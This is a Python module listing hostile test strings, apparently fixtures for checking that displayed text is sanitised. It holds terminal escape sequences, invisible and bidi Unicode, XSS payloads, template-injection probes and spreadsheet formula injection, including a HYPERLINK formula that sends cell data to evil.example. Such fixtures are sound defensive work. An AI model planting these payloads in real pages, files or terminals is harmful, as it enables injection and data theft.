"""Text that would do something if it were shown as it is."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

#: By what it would do. Each is one that some program, somewhere, acts upon.
TEXTS: Final[Mapping[str, str]] = {
    "clears the screen": "\x1b[2J\x1b[H",
    "asks the terminal to answer": "\x1b[6n\x1b]50;?\x07",
    "renames the window": "\x1b]0;owned\x07",
    "links": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "controls in one byte each": "\x9b2J\x9d0;owned\x9c\x90q\x85",
    "overwrites the line": "wrong\rright",
    "rings and erases": "\a\b\b\b\x7f",
    "ends the text": "a\0b\x04\x1a",
    "reorders the line": "\u202eevol\u202c \u2066x\u2069 \u200f",
    "is not seen": "pass\u200b\u200c\u200d\u2060\ufeffed \u115f\u3164\u034f \U000e0041\ufe0f",
    "covers the lines above": "a" + "\u0338\u0301\u0316" * 40,
    "breaks lines of its own": "a\u2028b\u2029c\x0bd\x0ce",
    "is half a character": "\ud800 \udfff \udcff",
    "is nobody's character": "\ue000 \U0010ffff \ufdd0",
    "is markup of a terminal library": "[bold red]x[/] [link=http://evil.example]y[/link] [/]",
    "runs a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "leaves its element": "</pre></code></title></style>--><svg onload=alert(1)>",
    "leaves its attribute": "\" onmouseover=alert(1) x=\" ' autofocus onfocus=alert(1) x='",
    "is an entity": "&lt;script&gt; &#60;b&#62; &quot;",
    "is a template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "links in Markdown": "[x](javascript:alert(1)) ![x](http://evil.example) <http://evil.example>",
    "leaves its code in Markdown": "``` ` `` | a | b |\n\n# h\n\n<b>x</b> @all #1 www.evil.example",
    "runs in a spreadsheet": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "starts a program": "+cmd|' /C calc'!A0",
    "is a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "is negative": "-1+1",
    "ends its cell": 'a,b;=1+1\t=1+1\n=1+1"\r\n=1+1',
    "is long": "A" * 1_000_000,
    "is long and escaped": "\x1b" * 100_000,
    "is many lines": "\n" * 100_000,
    "formats": "%s%n%x {0} {x!r}",
}
